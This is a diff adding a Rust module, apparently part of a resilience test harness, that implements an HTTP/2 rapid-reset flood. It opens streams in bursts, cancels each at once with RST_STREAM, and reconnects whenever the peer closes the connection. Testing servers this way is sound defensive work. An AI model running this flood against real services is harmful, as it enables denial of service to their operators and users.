@@ -1,0 +1,158 @@
+//! HTTP/2 frames written by hand: streams that are taken back, and connections that stay.
+
+use std::{net::SocketAddr, time::Duration};
+
+use tokio::{
+    io::{AsyncReadExt as _, AsyncWriteExt as _},
+    net::TcpStream,
+    time::Instant,
+};
+
+use super::Failure;
+
+const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+const HEADERS: u8 = 1;
+const RST_STREAM: u8 = 3;
+const SETTINGS: u8 = 4;
+const PING: u8 = 6;
+const GOAWAY: u8 = 7;
+const END_STREAM: u8 = 1;
+const END_HEADERS: u8 = 4;
+const ACK: u8 = 1;
+/// RFC 9113 section 7: CANCEL.
+const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
+/// Clients may open so many streams on a connection (RFC 9113 section 5.1.1); one more needs another connection.
+const LAST_STREAM: u32 = 1_000_000_000;
+
+fn put(into: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
+    let [_, a, b, c] = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
+    into.extend_from_slice(&[a, b, c, kind, flags]);
+    into.extend_from_slice(&stream.to_be_bytes());
+    into.extend_from_slice(payload);
+}
+
+/// Writes a literal header field with an indexed name, neither indexed nor Huffman-coded (RFC 7541 section 6.2.2).
+fn literal(into: &mut Vec<u8>, name: u8, value: &str) {
+    // Values of 127 bytes and more take a length of several bytes; none here are so long.
+    into.extend_from_slice(&[name & 0x0f, u8::try_from(value.len().min(126)).unwrap_or(126)]);
+    into.extend_from_slice(value.as_bytes().get(..value.len().min(126)).unwrap_or_default());
+}
+
+/// Returns the header block of `GET /api/private` without a token.
+fn request() -> Vec<u8> {
+    // `:method: GET` and `:scheme: http` of the static table (RFC 7541, appendix A).
+    let mut block = vec![0x82, 0x86];
+    literal(&mut block, 4, "/api/private");
+    literal(&mut block, 1, "api.example.com");
+    block
+}
+
+/// What became of an attack.
+#[derive(Clone, Copy, Debug, Default)]
+pub(crate) struct Attack {
+    /// Streams that were opened and taken back.
+    pub(crate) streams: u64,
+    /// Connections that it took: the peer closes those of a hostile client.
+    pub(crate) connections: u64,
+}
+
+/// Opens so many streams a second on one connection at a time and takes each back at once, for that time.
+pub(crate) async fn take_back(address: SocketAddr, rate: u32, time: Duration) -> Result<Attack, Failure> {
+    let (mut attack, started) = (Attack::default(), Instant::now());
+    while started.elapsed() < time {
+        attack.connections += 1;
+        // A connection that the peer closes is no failure: the next one goes on.
+        let _ = one_connection(address, rate, started, time, &mut attack).await;
+    }
+    Ok(attack)
+}
+
+async fn one_connection(
+    address: SocketAddr,
+    rate: u32,
+    started: Instant,
+    time: Duration,
+    attack: &mut Attack,
+) -> Result<(), Failure> {
+    let stream = TcpStream::connect(address).await?;
+    stream.set_nodelay(true)?;
+    let (mut read, mut write) = stream.into_split();
+    let mut output = PREFACE.to_vec();
+    put(&mut output, SETTINGS, 0, 0, &[]);
+    let block = request();
+    let (mut next, mut input) = (1_u32, Vec::new());
+    // Bursts: streams that are taken back one by one are hardly ever seen together.
+    let mut ticks = tokio::time::interval(Duration::from_millis(20));
+    while started.elapsed() < time && next < LAST_STREAM {
+        tokio::select! {
+            _ = ticks.tick() => {
+                let due = started.elapsed().as_micros() * u128::from(rate) / 1_000_000;
+                let burst = u64::try_from(due)?.saturating_sub(attack.streams).min(u64::from(rate / 20));
+                for _ in 0..burst {
+                    put(&mut output, HEADERS, END_STREAM | END_HEADERS, next, &block);
+                    put(&mut output, RST_STREAM, 0, next, &CANCEL);
+                    next += 2;
+                }
+                attack.streams += burst;
+                write.write_all(&output).await?;
+                output.clear();
+            }
+            read = read.read_buf(&mut input) => {
+                if read? == 0 || !answer(&mut input, &mut output) {
+                    return Ok(());
+                }
+            }
+        }
+    }
+    Ok(())
+}
+
+/// Takes all whole frames out of the input and acknowledges what has to be. Returns false at GOAWAY.
+fn answer(input: &mut Vec<u8>, output: &mut Vec<u8>) -> bool {
+    while let Some(&[a, b, c, kind, flags, ..]) = input.get(..9) {
+        let length = usize::try_from(u32::from_be_bytes([0, a, b, c])).unwrap_or(usize::MAX);
+        let Some(frame) = input.get(..9 + length) else { break };
+        match kind {
+            SETTINGS if flags & ACK == 0 => put(output, SETTINGS, ACK, 0, &[]),
+            PING if flags & ACK == 0 => put(output, PING, ACK, 0, frame.get(9..).unwrap_or_default()),
+            GOAWAY => return false,
+            _ => {}
+        }
+        input.drain(..9 + length);
+    }
+    true
+}
+
+/// Opens a connection of HTTP/2 on which nothing is asked.
+pub(crate) async fn idle(address: SocketAddr) -> Result<TcpStream, Failure> {
+    let mut stream = TcpStream::connect(address).await?;
+    let mut output = PREFACE.to_vec();
+    put(&mut output, SETTINGS, 0, 0, &[]);
+    stream.write_all(&output).await?;
+    Ok(stream)
+}
+
+/// Opens a connection of HTTP/2, asks one Check on it and waits until something comes back.
+pub(crate) async fn used(address: SocketAddr) -> Result<TcpStream, Failure> {
+    let mut stream = idle(address).await?;
+    // `:method: POST`, `:scheme: http`; an empty CheckRequest is a request that is denied.
+    let mut block = vec![0x83, 0x86];
+    literal(&mut block, 4, "/envoy.service.auth.v3.Authorization/Check");
+    literal(&mut block, 1, "localhost");
+    // `te: trailers` and the content type, whose name is in the static table.
+    block.extend_from_slice(&[0x00, 2]);
+    block.extend_from_slice(b"te");
+    block.push(8);
+    block.extend_from_slice(b"trailers");
+    block.extend_from_slice(&[0x0f, 16, 16]);
+    block.extend_from_slice(b"application/grpc");
+    let mut output = Vec::new();
+    put(&mut output, SETTINGS, ACK, 0, &[]);
+    put(&mut output, HEADERS, END_HEADERS, 1, &block);
+    put(&mut output, 0, END_STREAM, 1, &[0; 5]);
+    stream.write_all(&output).await?;
+    let mut answer = [0; 1024];
+    let read = tokio::time::timeout(Duration::from_secs(5), stream.read(&mut answer)).await;
+    read.map_err(|_| "no answer on a new connection")??;
+    Ok(stream)
+}
